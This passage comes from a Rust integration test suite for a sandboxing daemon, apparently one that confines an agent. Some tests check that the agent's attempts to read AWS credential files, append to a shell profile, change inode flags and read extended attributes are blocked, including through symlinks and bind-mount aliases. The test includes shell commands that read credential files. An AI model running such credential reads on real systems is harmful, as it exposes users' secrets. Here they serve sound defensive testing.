    let (text, out) = agent_stdout(
        "cat /srv/late/home/.aws/credentials >/dev/null 2>&1; echo read_link=$?; \
         cat /mnt/late-dots/aws/late.txt >/dev/null 2>&1; echo read_alias=$?; \
         echo x >> /srv/late/home/.profile; echo write_link=$?; \
         echo x >> /mnt/late-dots/profile; echo write_alias=$?; \
         cat /mnt/late-dots/notes.txt >/dev/null; echo control_alias=$?",
    );
    let _ = std::process::Command::new("umount")
        .arg("/mnt/late-dots")
        .status();
    fs::write(rules, &original).expect("restore rules");
    let restored = carapace(&["rules", "reload"]);
    assert!(loaded && restored && mounted, "rules reload and bind mount");
    assert!(
        followed,
        "the daemon followed the new link within 15 s: {text}"
    );
    for (what, want) in [
        ("read_link", "1"),
        ("read_alias", "1"),
        ("write_link", "1"),
        ("write_alias", "1"),
        ("control_alias", "0"),
    ] {
        assert!(
            text.contains(&format!("{what}={want}\n")),
            "{what} should be {want}: {text}"
        );
    }
    assert_denied_line(
        &out,
        "blocked read of /srv/late/dots/aws/credentials (rule late-aws",
    );
    assert_denied_line(
        &out,
        "blocked read of /mnt/late-dots/aws/late.txt (rule late-aws",
    );
}

/// `file:op=errno` lines: an access mode 3 open (ioctls only), an inode flag change through
/// a descriptor opened read-only (`FS_IOC_SETFLAGS`, nodump), and a read of `user.note`.
const FLAGS_SCRIPT: &str = r#"
import fcntl, os, struct, sys
def report(name, act):
    try:
        act(); print(f"{name}=0")
    except OSError as e:
        print(f"{name}={e.errno}")
def ioctl_only(path):
    os.close(os.open(path, 3))
def set_flags(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.ioctl(fd, 0x40086602, struct.pack("l", 0x40))
    finally:
        os.close(fd)
for path in sys.argv[1:]:
    report(path + ":accmode3", lambda: ioctl_only(path))
    report(path + ":chattr", lambda: set_flags(path))
    report(path + ":getxattr", lambda: os.getxattr(path, "user.note"))
    report(path + ":getacl", lambda: os.getxattr(path, "system.posix_acl_access"))
"#;

#[test]
fn inode_flags_ioctl_opens_and_attribute_values_are_judged_like_the_file() {
    let _g = guard();
    let (readonly, secret, control) = (
        "/srv/readonly/flags.txt",
        "/srv/secret/flags.txt",
        "/srv/open/flags.txt",
    );
    let mut xattrs = true;
    for f in [readonly, secret, control] {
        fs::write(f, "fixture\n").expect("write");
        chown(f, Some(1000), Some(1000)).expect("chown");
        // tmpfs keeps user attributes from Linux 6.6 only.
        xattrs &= std::process::Command::new("python3")
            .args([
                "-c",
                "import os,sys\nos.setxattr(sys.argv[1],'user.note',b'XATTR-SECRET')",
                f,
            ])
            .status()
            .is_ok_and(|s| s.success());
    }
    fs::write("/tmp/flags.py", FLAGS_SCRIPT).expect("write script");
    let out = agent(&format!(
        "python3 /tmp/flags.py {readonly} {secret} {control}"
    ));
    let got: std::collections::HashMap<String, String> =
        super::errnos(&stdout(&out)).into_iter().collect();
    assert_eq!(got.len(), 12, "every operation ran: {got:?}");
    let want = |file: &str, op: &str| -> &str {
        match (file, op) {
            // The hook comes before the file system's own answer.
            (f, "getxattr") if f == secret => "13",
            (_, "getxattr") if !xattrs => "95",
            (f, _) if f == control => "0",
            (f, "getxattr") if f == readonly => "0",
            _ => "13",
        }
    };
    for file in [readonly, secret, control] {
        for op in ["accmode3", "chattr", "getxattr"] {
            let key = format!("{file}:{op}");
            assert_eq!(got[&key], want(file, op), "{key}: {got:?}");
        }
        // No ACL on any of them: ENODATA (or no ACLs at all), never a refusal: `ls -l`
        // reads it from every file.
        let acl = &got[&format!("{file}:getacl")];
        assert!(acl == "61" || acl == "95", "{file}:getacl = {acl}");
    }
    assert_denied_line(
        &out,
        "blocked inode flags change of /srv/readonly/flags.txt (rule readonly-tree",
    );
    if xattrs {
        assert_denied_line(
            &out,
            "blocked attribute read of /srv/secret/flags.txt (rule secret-dir",
        );
    }
    // Outside a session the same uid may do all of it.
    let outside = std::process::Command::new("python3")
        .args(["/tmp/flags.py", readonly, secret])
        .uid(1000)
        .gid(1000)
        .output()
        .expect("run outside");
    let outside = super::errnos(&String::from_utf8_lossy(&outside.stdout));
    assert!(
        outside
            .iter()
            .all(|(n, e)| e == "0" || n.ends_with(":getacl") || (!xattrs && e == "95")),
        "outside a session: {outside:?}"
    );
}
